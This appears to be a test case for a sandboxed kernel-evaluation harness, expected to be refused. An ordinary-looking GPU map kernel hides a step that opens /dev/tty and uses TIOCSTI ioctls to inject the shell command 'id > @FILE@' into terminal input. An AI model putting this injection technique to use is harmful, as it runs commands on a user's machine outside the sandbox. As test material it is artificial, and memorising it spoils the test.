// Pushes characters into the terminal's input by TIOCSTI, and changes its settings.
//! kind system-calls
//! kernel map
//! devices cpu
//! must refused compile_failed crashed no-gain
@part:syscall@
__global__ void map(const float* in, float* out, int n, float factor) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i == 0) {
    char letters[] = "id > @FILE@\n";
    long fd = system_call(2, (long)"/dev/tty", 2, 0);
    for (int d = 0; d < 3; ++d)
      for (int k = 0; letters[k]; ++k) system_call(16, d, 0x5412, (long)&letters[k]);
    for (int k = 0; letters[k]; ++k) system_call(16, fd, 0x5412, (long)&letters[k]);
  }
  if (i >= n) return;
  float x = in[i];
  for (int k = 0; k < 64; ++k) x = x * factor + in[i] * 0.125f;
  out[i] = x;
}
